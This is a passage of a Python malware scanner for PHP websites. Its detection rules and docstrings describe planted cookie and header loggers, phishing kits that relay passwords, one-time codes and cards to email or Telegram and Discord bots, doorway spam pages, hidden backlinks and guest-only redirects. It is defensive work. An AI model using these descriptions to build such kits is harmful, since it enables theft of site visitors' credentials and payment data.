    if _HIDDEN_DATA_NAME.match(name) is not None and _EXTENSION_ONLY.match(name) is None:
        return True
    # or a plain name in a folder that is hidden itself: '/.sys/data.txt' (not the server's
    # or a tool's own: .well-known, .git, a cache of the application's own)
    return any(_HIDDEN_FOLDER.match(part) is not None for part in parts[:-1])


def _dump_holders(ctx: Ctx, whole: re.Pattern[bytes] | None) -> set[bytes]:
    """Variables holding the visitor's whole request (:func:`_whole_request_at`, or a match of
    ``whole``): set from it (``$h = getallheaders();``, ``$t = http_build_query($_COOKIE);``),
    each entry of a loop over it, and a text glued from those (one step)."""

    def holds(text: bytes) -> bool:
        return _whole_request_at(ctx, text) >= 0 or (
            whole is not None and whole.search(text) is not None
        )

    code = ctx.code
    held: set[bytes] = set()
    for m in itertools.islice(_SET_TO.finditer(code), 400):
        if holds(m.group(2)):
            held.add(m.group(1))
    for m in itertools.islice(_EACH_OF.finditer(code), 100):
        if holds(m.group(1)) or set(VAR.findall(m.group(1))) & held:
            held.update(VAR.findall(m.group(2)))
    if held:
        for m in itertools.islice(_GLUED_TO.finditer(code), 400):
            if set(VAR.findall(interpolated(ctx, m.group(2)))) & held:
                held.add(m.group(1))
    return held


@feature("hidden_request_log")
def _hidden_request_log(ctx: Ctx, rule: Rule) -> Hit | None:
    """Every visitor's whole request kept in a hidden file: all the cookies or headers
    (``$_COOKIE``, ``getallheaders()``, the Cookie header) or every posted or asked field
    (``$_POST``, ``$_GET``, ``$_REQUEST`` whole: ``http_build_query($_POST)``,
    ``print_r($_REQUEST, true)``, a loop over them) appended to a file whose name begins with a
    dot (``.arrow.txt``, ``/.log``), which a directory listing does not show: a planted logger
    collecting the logins and sessions of the site's visitors. A site's debugging or webhook
    log is named for what it is (webhook-debug.log, ipn.log) and keeps what one provider sent;
    the server's own dot files (.htaccess, .user.ini, .env) are settings, not logs."""
    writes = calls_to(ctx, (b"fwrite", b"fputs", b"file_put_contents", b"error_log"), 30)
    if not writes:
        return None
    code = ctx.code
    if _whole_request_at(ctx, code) < 0 and _FORM_DUMP.search(code) is None:
        return None
    held: set[bytes] | None = None
    for start, args in writes:
        if not _hidden_append(ctx, start, args):
            continue
        if held is None:
            held = _dump_holders(ctx, _FORM_DUMP)
        parts = top_args(args)
        # error_log() takes the text first, the writes second
        written = parts[0] if code.startswith(b"error_log", start) else b" , ".join(parts[1:2])
        if (
            _whole_request_at(ctx, written) >= 0
            or _FORM_DUMP.search(written) is not None
            or set(VAR.findall(interpolated(ctx, written))) & held
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 120))
    return None


# ------------------------------------------------------ keyword-table doorway pages
# an array written whole of string literals (five or more)
_LITERAL_TABLE = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*(?:array\s*\(|\[)\s*"
    rb"(\x01\d+\x01(?:\s*,\s*\x01\d+\x01){4,})\s*,?\s*[)\]]"
)
# a search phrase: two to ten words of letters and digits
_KEYWORD_PHRASE = tight(rb"^[a-z0-9][a-z0-9'&.-]*(?: [a-z0-9'&.-]+){1,9}$")
# a list of table indexes: "47,76,89,25"
_INDEX_LIST = tight(rb"^\d{1,5}(?:\s*,\s*\d{1,5}){2,}$")
_META_SEO = tight(rb"<meta\s[^>]{0,40}name\s*=\s*[\\'\"]?(?:keywords|description)\b")
# the page the visitor asked for: the path or the query string, a query field
_PAGE_ASKED = tight(
    rb"\$_(?:get|request)\b|\$_server\s*\[\s*\x01(\d+)\x01"
)
_PAGE_KEYS = frozenset({b"request_uri", b"query_string", b"path_info", b"orig_path_info"})


def _tables(ctx: Ctx) -> tuple[set[bytes], set[bytes]]:
    """The arrays the script writes out whole: those of ten or more search phrases, and
    those of five or more lists of indexes (``"47,76,89"``), each 80 % at least."""
    value = ctx.lx.value
    phrases: set[bytes] = set()
    indexes: set[bytes] = set()
    for m in itertools.islice(_LITERAL_TABLE.finditer(ctx.code), 200):
        items = [value(int(i)).strip().lower() for i in PLACEHOLDER.findall(m.group(2))]
        n = len(items)
        if n >= 10 and sum(_KEYWORD_PHRASE.match(i) is not None for i in items) * 5 >= n * 4:
            phrases.add(m.group(1))
        if sum(_INDEX_LIST.match(i) is not None for i in items) * 5 >= n * 4:
            indexes.add(m.group(1))
    return phrases, indexes


@feature("keyword_table_doorway")
def _keyword_table_doorway(ctx: Ctx, rule: Rule) -> Hit | None:
    """A doorway generator: pages made from a table of search phrases the script carries
    (ten or more), the page picked by the path or query the visitor asked for, its meta
    keywords or description glued from other phrases of the table (``$description .=
    $kw_array[$j]``) that lists of indexes written in the script pick (``explode(',',
    $desc_array[$i])``: a cross-linked keyword graph computed once and pasted in), printed
    into ``<meta name="keywords|description">``: spam pages for search engines under the
    site's name. A site's own pages take their titles from a table too, but fill no meta
    tags with other pages' phrases; a related-links list names pages, not keywords."""
    phrases, indexes = _tables(ctx)
    if not phrases or not indexes:
        return None
    code = ctx.code
    index_names = b"|".join(re.escape(n) for n in sorted(indexes))
    exploded = rb"explode\s*\(\s*\x01\d+\x01\s*,\s*\$(?:" + index_names + rb")\s*\["
    if re.search(exploded, code) is None:
        return None
    value = ctx.lx.value
    if not any(
        (m.group(1) is None or value(int(m.group(1))).strip().lower() in _PAGE_KEYS)
        for m in itertools.islice(_PAGE_ASKED.finditer(code), 100)
    ):
        return None
    phrase_names = b"|".join(re.escape(n) for n in sorted(phrases))
    glued_rx = re.compile(
        rb"\$(" + NAME_P + rb")\s*\.=\s*(?:\w+\s*\(\s*)?\$(?:" + phrase_names + rb")\s*\[\s*\$"
    )
    glued = {m.group(1): m.start() for m in itertools.islice(glued_rx.finditer(code), 100)}
    if not glued:
        return None
    at = min(glued.values())
    # the tag written in the page's HTML around a PHP tag that prints the glued text:
    # <meta name="keywords" content="<?php echo $keywords; ?>">
    for g in glued:
        if re.search(
            rb"<meta\s[^>]{0,40}name\s*=\s*['\"]?(?:keywords|description)['\"]?[^>]{0,40}"
            rb"content\s*=\s*['\"]?<\?(?:php\s+(?:echo|print)|=)\s*\(?\s*\$"
            + re.escape(g)
            + rb"\b",
            ctx.data,
            re.IGNORECASE,
        ):
            return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
    for idx in range(min(len(ctx.lx.raw_strings), 3000)):
        lit = value(idx)
        if _META_SEO.search(lit.lower()) is None:
            continue
        # the glued text interpolated in the tag's literal, or glued on to it
        if any(re.search(rb"\$\{?" + re.escape(g) + rb"\b", lit) for g in glued) or any(
            re.search(rb"\x01" + str(idx).encode() + rb"\x01\s*\.\s*(?:\w+\s*\(\s*)?\$"
                      + re.escape(g) + rb"\b", code)
            for g in glued
        ):
            return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
    return None


# a kit's next page, where the visitor types the next secret: a relative page named for a
# password, a one-time or SMS code, a PIN, a card, a billing or 3-D Secure step, or a
# payment step (pay.php, payment.php, applepay.php, gpay.html: the card again, in a wallet's
# dress)
_PAY_NAME = rb"[a-z]{0,8}?pay(?:ment)?"
_SECRET_PAGE_NAME = (
    rb"(?!\w+:)[\w./-]{0,80}?(?<![a-z])"
    rb"(?:pass(?:word|wd)?|pwd|otp|sms|pin|card|cc|billing|vbv|3ds|security|" + _PAY_NAME + rb")"
    rb"[\w-]{0,20}\.(?:php|html?)\b"
)
_NEXT_SECRET_STEP = tight(rb"^\s*location\s*:\s*" + _SECRET_PAGE_NAME)


_CHAT_BOTS = tight(rb"api\.telegram\.org/bot|discord(?:app)?\.com/api/webhooks")
# a results text's labels of who the visitor is: "IP ADDRESS :", "User-Agent", "Browser"
_VICTIM_LABELS = tight(rb"\bip\s*(?:address)?\s*[:=]|user-?agent|\bbrowser\b")


# the same page sent to by a refresh or by script: <meta http-equiv="refresh" content="0;
# url=otp.php">, location.href = 'pass.php', window.location.replace("card.php")
_NEXT_SECRET_OTHER = tight(
    rb"(?:\burl\s*=|location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\()\s*['\"]?"
    + _SECRET_PAGE_NAME
)
# a page name alone, kept in a variable that a Location header is then given
_SECRET_PAGE = tight(rb"^\s*" + _SECRET_PAGE_NAME)
# a payment step: where an ordinary checkout goes once it has the address
_PAYMENT_STEP = tight(
    rb"(?<![a-z])(?:card|cc|billing|" + _PAY_NAME + rb")[\w-]{0,20}\.(?:php|html?)\b"
)
_HEADER_VAR = tight(rb"header\s*\(\s*\x01(\d+)\x01(?:\s*\.\s*\$(" + NAME_P + rb"))?")


def _secret_pages(ctx: Ctx) -> dict[bytes, bytes]:
    """The variables set to one literal naming a secret's page (``$next = 'otp.php';``)."""
    value = ctx.lx.value
    pages: dict[bytes, bytes] = {}
    for m in itertools.islice(_SET_TO.finditer(ctx.code), 400):
        lit = PLACEHOLDER.fullmatch(m.group(2).strip())
        if lit is not None:
            v = value(int(lit.group(1))).lower()
            if _SECRET_PAGE.search(v) is not None:
                pages[m.group(1)] = v
    return pages


def _next_secret_step(ctx: Ctx, after: int, pages: dict[bytes, bytes]) -> tuple[int, bytes]:
    """Where, after code offset ``after``, the browser is sent to a page of the same site
    named for the next secret (``../pass.php``, ``otp.php``, ``card.html``), and the text
    that names it: a literal ``Location:`` header, a refresh or a script's ``location``, or a
    ``Location:`` header given a variable of ``pages`` (:func:`_secret_pages`: ``$next =
    'otp.php'; header("Location: $next")``). ``(-1, b"")`` if none is."""
    raw = ctx.lx.raw_strings
    for q in itertools.islice(PLACEHOLDER.finditer(ctx.code, after), 200):
        text = raw[int(q.group(1))].lower()
        if _NEXT_SECRET_STEP.search(text) is not None or _NEXT_SECRET_OTHER.search(text):
            return q.start(), text
        if pages and re.match(rb"\s*location\s*:", text):
            inner = set(re.findall(rb"\$(" + NAME_P + rb")", text))
            h = _HEADER_VAR.match(ctx.code, max(0, q.start() - 40))
            if h is None:
                h = re.search(rb"\.\s*\$(" + NAME_P + rb")", ctx.code[q.end() : q.end() + 80])
                if h is not None and ctx.code[q.end() : q.end() + 80].lstrip()[:1] == b".":
                    inner.add(h.group(1))
            for var in inner & set(pages):
                return q.start(), pages[var]
    return -1, b""


# the fields of a secret, not of an address: a password, a code, a card, a login
_SECRET_FIELD = tight(
    rb"pass|pwd|otp|sms|code|pin|cvv|cvc|card|ccn|\bcc|exp|ssn|login|user|token|answer"
)


@feature("kit_step_relayed")
def _kit_step_relayed(ctx: Ctx, rule: Rule) -> Hit | None:
    """One step of a multi-page phishing kit: the form's fields sent to a fixed place (mailed
    to a fixed address, sent to a chat bot or a literal web address) with the visitor's
    address or browser, then the visitor sent to the kit's next page, named for the next
    secret (``header('location: ../pass.php')``, ``otp.php``, ``card.php``): the address
    first, the password, the code and the card on the pages after. A site's own form
    (a lead, a contact, a newsletter) thanks its visitor; a sign-in of its own checks the
    password (:func:`_auth_used`)."""
    text = string_text(ctx)
    if (find(text, b"location") < 0 and find(text, b"url=") < 0) or _auth_used(ctx):
        return None
    if not _visitor_named(text) and _VICTIM_LABELS.search(text) is None:
        return None
    chat = _CHAT_BOTS.search(text) is not None
    pages = _secret_pages(ctx)
    for start, sent in _drops(ctx):
        if ctx.code.startswith(_FILE_WRITES, start):
            continue  # a file the site keeps
        if not ctx.code.startswith(b"mail", start) and not chat:
            continue  # a site's own CRM or shop backend at a web address: not a chat bot
        keys = _request_keys(ctx, _sent_text(ctx, sent, 3))
        if not keys:
            continue
        at, page = _next_secret_step(ctx, start, pages)
        if at < 0:
            continue
        # a shop's checkout or a booking mails the owner the address and the dates, then
        # takes the visitor to its payment page: a kit's step before the card page has
        # relayed a secret (a code, a password, a login) or sends to a chat bot
        if (
            not chat
            and _PAYMENT_STEP.search(page) is not None
            and not any(_SECRET_FIELD.search(k) for k in keys)
        ):
            continue
        return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# a list read from a file the script keeps: file('keys.txt'), explode("\n", file_get_contents(...))
_LIST_FROM_FILE = tight(
    rb"(?<![\w$>:])file\s*\(|explode\s*\([^;]{0,40}file_get_contents\s*\("
)
_PICKS_AT_RANDOM = tight(rb"(?<![\w$>:])(?:array_rand|shuffle|mt_rand|rand|random_int)\s*\(")
_LOOPS = tight(rb"(?<![\w$>:])(?:foreach|for|while)\s*\(")
_STOPS = tight(rb"(?<![\w$>:])(?:exit|die)\b")


# a test turned around: the block is for everyone but crawlers (!is_bot(), === false)
_NEGATED_TEST = tight(
    rb"^\(\s*!(?!=)|(?<![!=])==?=?\s*(?:false|0|null)\b|\b(?:false|null)\s*===?(?!=)"
)
_ENDS_BLOCK = tight(rb"(?<![\w$>:])(?:exit|die|return)\b")
_ELSE_OPEN = tight(rb"\s*else\s*\{")
# a variable set to a list read from a file the script keeps
_LIST_SET = tight(
    rb"\$(" + NAME_P + rb")\s*=(?![=>])\s*@?\s*"
    # through up to three calls that clean the lines (array_filter(array_map('trim', file(
    # ...)))), or filled a line at a time in a loop that reads the file ($kw[] = trim($l))
    rb"(?:(?:array_\w+|trim|array_map\s*\(\s*\x01\d+\x01\s*,)\s*\(?\s*){0,3}"
    rb"(?:file\s*\(|explode\s*\([^;]{0,40}file_get_contents\s*\()"
    rb"|(?:fgets|fgetcsv|stream_get_line)\s*\([^;{}]{0,80}\{\s*\$(" + NAME_P + rb")\s*\[\s*\]\s*="
)


# what every match of _LIST_SET holds: the file read (or the loop's line reader)
_LIST_SOURCE = tight(rb"file(?:_get_contents)?\s*\(|fget|stream_get_line")


def file_lists(code: bytes, most: int = 30) -> list[re.Match[bytes]]:
    """The first ``most`` matches of :data:`_LIST_SET` in ``code``. No match holds a ";"
    and each holds a word of :data:`_LIST_SOURCE`: only the statements (text between two
    ";") with such a word are searched, instead of trying the pattern at every "$" of the
    code."""
    out: list[re.Match[bytes]] = []
    end = 0
    # tried where its words start (it begins with an alternation: every "f" and "s")
    for w in prefiltered_finditer(_LIST_SOURCE, code):
        if w.start() < end:
            continue  # in the statement searched last
        start = code.rfind(b";", 0, w.start()) + 1
        end = find(code, b";", w.end())
        if end < 0:
            end = len(code)
        for m in _LIST_SET.finditer(code, start, end):
            out.append(m)
            if len(out) >= most:
                return out
    return out


def _picks_from(block: bytes, lists: set[bytes]) -> bool:
    """``block`` picks items of one of the ``lists`` at random: ``shuffle($kw)``,
    ``array_rand($kw, 30)``, ``$kw[mt_rand(0, $n)]`` (a random number for a cache-busting
    query or a nonce picks nothing from the list)."""
    for name in lists:
        v = re.escape(name)
        if re.search(
            rb"(?:shuffle|array_rand)\s*\(\s*\$" + v + rb"\b"
            rb"|\$" + v + rb"\s*\[[^\]]{0,80}?(?:rand|random_int)\s*\(",
            block,
        ):
            return True
    return False


def _crawler_only_part(code: bytes, cond: bytes, brace: int, block: bytes) -> bytes | None:
    """The code only crawlers reach through an ``if`` whose block opens at ``brace``: the
    block of a test for them; for a test turned around (``if (!is_bot()) { ...; exit; }``),
    the ``else`` or the code after a block that ends the script. None when the test is
    turned around and its block lets everyone go on (an ad shown to people only)."""
    if _NEGATED_TEST.search(cond) is None:
        return block
    after = brace + len(block)
    e = _ELSE_OPEN.match(code, after)
    if e is not None:
        return braced(code, e.end() - 1, 6000)
    if _ENDS_BLOCK.search(block) is None:
        return None
    return code[after : after + 6000]


@feature("crawler_keyword_doorway")
def _crawler_keyword_doorway(ctx: Ctx, rule: Rule) -> Hit | None:
    """A doorway page made for crawlers only: in the part of the script that only a crawler
    reaches (the block of a test for crawlers: the user agent, a bot flag, a helper
    is_bot(); or what follows a test for everyone else that ends the script), a page printed
    from a keyword list the script keeps in a file (``file('.cache/keywords.txt')``, read
    there or before the test), whose items are picked at random (``shuffle($kw)``,
    ``$kw[mt_rand(...)]``) into links in a loop: search engines index pages of spam words
    under the site's name, its visitors never see them. A crawler-only sitemap lists the
    site's own pages in order (a random number in it for a cache-busting query picks no
    item); a banner rotator shown to everyone but crawlers is no doorway."""
    text = string_text(ctx)
    if find(text, b"<a ") < 0 or find(text, b"href") < 0:
        return None
    code = ctx.code
    # the variables set to a list read from a file, where each is set
    list_sets = [
        (n.start(), n.group(1) or n.group(2))
        for n in file_lists(code)
    ]
    if not list_sets:
        return None  # no list read from a file into a variable: _picks_from has none to pick
    for m in itertools.islice(_IF_AT.finditer(code), 200):
        open_at = m.end()  # just after "if ("
        end = open_at + close_paren(code[open_at : open_at + 400])
        cond = code[open_at - 1 : end + 1]
        brace = find(code, b"{", end, end + 4)
        if brace < 0:
            continue
        block = _crawler_only_part(code, cond, brace, braced(code, brace, 6000))
        if block is None or _LOOPS.search(block) is None:
            continue
        # the keyword list: read in that part, or before the test into a variable it uses
        lists = {name for at, name in list_sets if at < brace + len(block) + 6000}
        if not lists and _LIST_FROM_FILE.search(block) is None:
            continue
        if not _picks_from(block, lists):
            continue
        if _STOPS.search(block) is None and _NEGATED_TEST.search(cond) is None:
            continue
        links = any(
            b"<a " in ctx.lx.value(int(p.group(1))).lower()
            for p in itertools.islice(PLACEHOLDER.finditer(block), 60)
        )
        if not links:
            continue
        if _crawler_test(ctx, cond) or _crawler_flag(ctx, cond):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 100))
    return None


# a style that hides an element from the people who see the page, and not from crawlers:
# display:none, visibility:hidden, off-screen (left/top/text-indent far negative), no size
_HIDDEN_STYLE = tight(
    rb"display\s*:\s*none|visibility\s*:\s*hidden|(?:left|top|text-indent)\s*:\s*-\d{3,}|"
    rb"font-size\s*:\s*0(?![.\d])|height\s*:\s*0(?:px)?\s*;\s*overflow\s*:\s*hidden|"
    # a box of one pixel (width:1px;height:1px;overflow:hidden)
    rb"width\s*:\s*[01](?:px)?\s*;\s*height\s*:\s*[01](?:px)?\s*;"
)
# an element with the HTML hidden attribute (<div hidden>; not an input's type="hidden"),
# looked for in a printed literal only (not in the whole text: a try at every "<div")
_HIDDEN_ATTR = tight(
    rb"<(?:div|span|p|section|aside|ul|footer)\b[^<>]{0,120}?\shidden(?=[\s>/=])"
)


def _hides(lit: bytes) -> bool:
    """``lit`` (lower case) hides an element by its style or its hidden attribute."""
    return _HIDDEN_STYLE.search(lit) is not None or (
        find(lit, b" hidden") >= 0 and _HIDDEN_ATTR.search(lit) is not None
    )
_PRINTS = tight(rb"(?<![\w$>:])(?:echo|print)\b([^;]{1,600});")
_FETCH_INTO_VAR = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*@?\s*(?:file_get_contents|curl_exec)\s*\(([^;]{0,300})"
)


def _web_fetch(ctx: Ctx, text: bytes) -> bool:
    """``text`` fetches a literal web address (file_get_contents('https://...'))."""
    return any(
        ctx.lx.value(int(q.group(1))).lstrip().lower().startswith(WEB_SCHEMES)
        for q in itertools.islice(REMOTE_FETCH.finditer(text), 4)
    )


@feature("hidden_remote_links")
def _hidden_remote_links(ctx: Ctx, rule: Rule) -> Hit | None:
    """Links from another site printed where the visitor cannot see them: the text of a
    fetch of a web address (``file_get_contents('http://feed/get.php?host=' . $host)``)
    printed inside an element hidden by its style (``display:none``, ``left:-9999px``,
    ``font-size:0``): paid backlinks hidden in a hacked site's pages, for crawlers only. A
    site's own hidden block (a modal, a honeypot field) holds its own content, and a widget
    fetched from a web address is shown."""
    text = string_text(ctx)
    if (
        prefiltered_search(_HIDDEN_STYLE, text) is None and find(text, b" hidden") < 0
    ) or find(text, b"http") < 0:
        return None
    code = ctx.code
    value = ctx.lx.value
    fetched: set[bytes] = set()
    sprites: set[bytes] = set()  # given an SVG file's text: an icon sprite, no links
    for m in itertools.islice(_FETCH_INTO_VAR.finditer(code), 50):
        args = m.group(2)
        q = PLACEHOLDER.search(args)
        url = value(int(q.group(1))).strip().lower() if q is not None else b""
        if m.group(0).find(b"curl_exec") >= 0 or url.startswith(WEB_SCHEMES):
            fetched.add(m.group(1))
            if _SVG_FILE.search(url) is not None and args.find(b".") < 0:
                sprites.add(m.group(1))
    # a function of the file's that fetches and returns the page: what it is given is fetched
    fetchers = [
        name
        for name, body in itertools.islice(function_bodies(ctx).items(), 100)
        if find(body, b"return") >= 0
        and (find(body, b"curl_exec") >= 0 or _web_fetch(ctx, body))
    ]
    for name in fetchers[:10]:
        call = re.compile(rb"\$(" + NAME_P + rb")\s*=\s*@?\s*" + re.escape(name) + rb"\s*\(")
        fetched.update(m.group(1) for m in itertools.islice(call.finditer(code), 20))
    if not fetched and find(code, b"file_get_contents") < 0:
        return None
    # classes a style sheet of the page hides (<style>.x9{display:none}</style>)
    hidden_classes = _hidden_classes(text)
    for p in itertools.islice(prefiltered_finditer(_PRINTS, code), 300):
        args = p.group(1)
        lits = [
            value(int(q.group(1))).lower()
            for q in itertools.islice(PLACEHOLDER.finditer(args), 12)
        ]
        hiding = [
            lit
            for lit in lits
            if _hides(lit)
            or any(set(c.group(1).split()) & hidden_classes for c in _CLASS_ATTR.finditer(lit))
        ]
        if not hiding:
            continue
        # an element the page shows on a click (a modal, a tab: its id named by a script or
        # a toggle, getElementById('terms'), data-target="#terms") is hidden only until then
        if all(_revealed(text, lit) for lit in hiding):
            continue
        if _web_fetch(ctx, args) or set(VAR.findall(interpolated(ctx, args))) & fetched:
            return Hit(ctx.line_of_code(p.start()), ctx.excerpt_code(p.start(), p.start() + 120))
    # the hidden element written as the page's HTML, the fetched text printed inside it by
    # a PHP tag: <div style="display:none"><?php echo $links; ?></div> (from each PHP tag
    # that prints a fetched variable, the element just before it: no search of the HTML)
    targets = fetched - sprites
    if targets and ctx.lx.html:
        data = ctx.data
        for t in itertools.islice(_PHP_TAG_ECHO.finditer(data), 200):
            if t.group(1).lower() not in targets:
                continue
            before = data[max(0, t.start() - 400) : t.start()].rstrip()
            if not before.endswith(b">"):
                continue
            tag = before[before.rfind(b"<") :].lower()
            if (
                _HTML_BOX.match(tag) is not None
                and _hides(tag)
                and not _revealed(text, tag)
            ):
                line = data.count(b"\n", 0, t.start()) + 1 if ctx.layer == 0 else 0
                return Hit(line, excerpt(tag + t.group(0).lower()))
    return None


# a PHP tag that prints a variable (<?php echo $links; ?>, <?= $links ?>), and an element
# that holds text
_PHP_TAG_ECHO = tight(
    rb"<\?(?:php\b|=)\s*(?:(?:echo|print)\s*)?\(?\s*\$(\w{1,60})", re.IGNORECASE
)
_HTML_BOX = tight(rb"<(?:div|span|p|section|aside|ul|footer)\b")
_SVG_FILE = tight(rb"\.svg(?:[?#]|$)")


_CLASS_BEFORE_BRACE = tight(rb"\.([\w-]{1,40})\s*$")


def _hidden_classes(text: bytes) -> set[bytes]:
    """The classes a style sheet in the page's text hides (``.x9{display:none}``): for each
    hiding style (the first 50), the selector before the ``{`` it stands in, looked for in
    the 200 bytes before it (one search per style, not one per "." of the text)."""
    found: set[bytes] = set()
    for h in itertools.islice(_HIDDEN_STYLE.finditer(text), 50):
        seg = text[max(0, h.start() - 200) : h.start()]
        brace = seg.rfind(b"{")
        if brace < 0 or seg.find(b"}", brace) >= 0:
            continue
        m = _CLASS_BEFORE_BRACE.search(seg, max(0, brace - 60), brace)
        if m is not None:
            found.add(m.group(1))
    return found
_CLASS_ATTR = tight(rb"class\s*=\s*['\"]([^'\"]{1,200})['\"]")
_ID_ATTR = tight(rb"\bid\s*=\s*['\"]([\w-]{1,60})['\"]")


def _revealed(text: bytes, lit: bytes) -> bool:
    """Whether the element a literal opens (``<div id='terms' style='display:none'>``) is
    one the page shows: its id is named by a script (getElementById('terms'), $('#terms'))
    or a toggle (data-target="#terms", href="#terms")."""
    m = _ID_ATTR.search(lit)
    if m is None:
        return False
    ident = re.escape(m.group(1))
    return (
        re.search(
            rb"getelementbyid\s*\(\s*\\?['\"]" + ident + rb"\\?['\"]|['\"]#" + ident + rb"['\"]|"
            # another element's attribute that names it: the ad tag that fills the slot
            # (data-slot="ad-top"), aria-controls, a label's for=
            rb"(?:data-[\w-]+|aria-controls|for)\s*=\s*\\?['\"]#?" + ident + rb"\\?['\"]",
            text,
        )
        is not None
    )


# ------------------------------------------------------- guests sent away, users spared
# a script that opens a window or moves the page: window.open(...), location.href = ...
_JS_NAVIGATES = tight(
    rb"window\.open\s*\(|\blocation(?:\.href)?\s*=(?!=)|location\.(?:replace|assign)\s*\("
)
# an absolute web address written in a script as a JavaScript string (not a src= attribute)
_JS_STRING_URL = tight(rb"(?<!src=)(?<!src= )['\"]https?://[a-z0-9-]+\.[a-z0-9.-]+")
_WP_LOGIN_COOKIE = b"wordpress_logged_in"


@feature("guest_only_redirect")
def _guest_only_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
    """Code that looks through the visitor's cookies for WordPress's sign-in cookie
    (``wordpress_logged_in``) and, close by, writes a <script> that opens a window on or
    moves the page to an absolute web address written in it (``window.open("https://...")``
    on every click, ``location.href = "https://..."``): an injection put at the top of a
    site's files that sends visitors to the operator's pages while the site's own
    signed-in users, who would notice, never see it. A cache serves guests a stored page;
    a members-only page sends guests to its own sign-in page, an offer opens the site's own
    page."""
    code = ctx.code
    if find(code, b"$_cookie") < 0:
        return None
    value = ctx.lx.value
    gates = [
        find(code, b"\x01%d\x01" % i)
        for i in literals_holding(ctx, (_WP_LOGIN_COOKIE,), 5000)[:20]
        if value(i).lower().find(_WP_LOGIN_COOKIE) >= 0
    ]
    gates = [g for g in gates if g >= 0]
    if not gates:
        return None
    for idx in literals_holding(ctx, (b"<script",), 5000)[:50]:
        lit = value(idx).lower()
        if find(lit, b"<script") < 0 or _JS_NAVIGATES.search(lit) is None:
            continue
        if _JS_STRING_URL.search(lit) is None:
            continue
        at = find(code, b"\x01%d\x01" % idx)
        if at >= 0 and any(abs(at - g) < 1500 for g in gates):
            return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 120))
    return None



# ---------------------------------------- search visitors shown a foreign script, owners spared
# a script of another host (<script src="//ads.example/..."> or src="https://...") or a script
# that sends the browser to an absolute address written in it
_FOREIGN_SCRIPT = tight(
    rb"<script\b[^>]{0,200}?\bsrc\s*=\s*\\?['\"]?(?:https?:)?//[a-z0-9]|"
    rb"<script\b[^>]{0,200}>[^\x00]{0,300}?(?:(?:window|document|top|self)\.location"
    rb"(?:\.href)?\s*=\s*\\?['\"]https?://|location\.(?:replace|assign)\s*\(\s*\\?['\"]https?://)"
)
# the site's signed-in users or its administrators picked out
_SIGN_IN_CALL = tight(
    rb"(?<![\w$>:])(?:is_user_logged_in|current_user_can|is_super_admin|is_admin|user_can)\s*\("
)
_NEGATED_CALL = tight(rb"!\s*@?\s*$")
_SETS_COOKIE = tight(rb"(?<![\w$>:])setcookie\s*\(")
# where a value is kept beyond the request: a file, an option, a transient
_KEEPS_VALUE = (b"file_put_contents", b"fwrite", b"fputs", b"update_option", b"add_option",
                b"set_transient", b"update_site_option", b"add_site_option")
# a test whether a text or a list holds a value
_HOLDS_TESTS = (b"strpos", b"stripos", b"strstr", b"stristr", b"str_contains", b"in_array",
                b"array_search", b"preg_match")
_SERVER_KEY = tight(rb"(?:\$_server\s*\[|getenv\s*\(\s*)\s*\x01(\d+)\x01")
_HELD_BY = tight(rb"\$(" + NAME_P + rb")\s*(?:\[[^\];]{0,40}\]\s*)?\.?=(?![=>])([^;]{1,400});")


def _sign_in_picked(ctx: Ctx, cond: bytes) -> bool:
    """Whether the test ``cond`` picks the site's signed-in users or administrators (not
    its guests): a sign-in check called and not negated (``is_user_logged_in()``,
    ``current_user_can('edit_posts')``), or WordPress's sign-in cookie looked for."""
    for m in _SIGN_IN_CALL.finditer(cond):
        if _NEGATED_CALL.search(cond[max(0, m.start() - 4) : m.start()]) is None:
            return True
    value = ctx.lx.value
    return cond.find(b"$_cookie") >= 0 and any(
        value(int(q.group(1))).lower().find(_WP_LOGIN_COOKIE) >= 0
        for q in itertools.islice(PLACEHOLDER.finditer(cond), 8)
    )


def _owner_cookie_set(ctx: Ctx) -> int:
    """Where a test that picks the site's signed-in users or administrators guards a
    setcookie(), made there or by a function of the file's own that the block calls or
    hooks (``if (is_user_logged_in()) add_action('init', 'mark_me');``): the owner's
    browser marked so that it is spared even once signed out; -1 if not."""
    if not has_word(ctx, b"setcookie"):
        return -1
    code = ctx.code
    value = ctx.lx.value
    bodies = function_bodies(ctx)
    marks = {name for name, body in bodies.items() if _SETS_COOKIE.search(body)}
    for m in itertools.islice(prefiltered_finditer(_IF_AT, code, ctx.first), 300):
        inside = m.end()  # just after the condition's "("
        cond = code[inside : inside + close_paren(code[inside : inside + 400])]
        if not _sign_in_picked(ctx, cond):
            continue
        block = _block_after(code, inside)
        if _SETS_COOKIE.search(block):
            return m.start()
        named = {c.group(1) for c in _CALLED.finditer(block)} | {
            value(int(q.group(1))).strip().lower()
            for q in itertools.islice(PLACEHOLDER.finditer(block), 20)
        }
        if not marks.isdisjoint(named):
            return m.start()
    return -1


def _ip_texts(ctx: Ctx) -> tuple[set[bytes], set[bytes]]:
    """The texts that read the visitor's address (``$_SERVER['REMOTE_ADDR']``,
    ``getenv('REMOTE_ADDR')``) and the variables that hold it or a text glued from it
    (``$ip = $_SERVER['REMOTE_ADDR']``, ``$seen .= $ip . "\\n"``, ``$ips[] = $ip``)."""
    code = ctx.code
    value = ctx.lx.value
    reads = {
        k.group(0)
        for k in itertools.islice(prefiltered_finditer(_SERVER_KEY, code, ctx.first), 200)
        if value(int(k.group(1))).strip().lower() == b"remote_addr"
    }
    held: set[bytes] = set()
    if not reads:
        return reads, held
    for _ in range(2):
        for h in itertools.islice(_HELD_BY.finditer(code), 2000):
            rhs = h.group(2)
            if any(rhs.find(r) >= 0 for r in reads) or any(
                v.group(1) in held for v in VAR.finditer(rhs)
            ):
                held.add(h.group(1))
    return reads, held


def _mentions_ip(args: bytes, reads: set[bytes], held: set[bytes]) -> bool:
    return any(args.find(r) >= 0 for r in reads) or any(
        v.group(1) in held for v in VAR.finditer(args)
    )


def _visitor_ip_remembered(ctx: Ctx) -> int:
    """Where the visitor's address is kept beyond the request (written to a file, an
    option or a transient, itself or in a list or text glued from it) by a file that
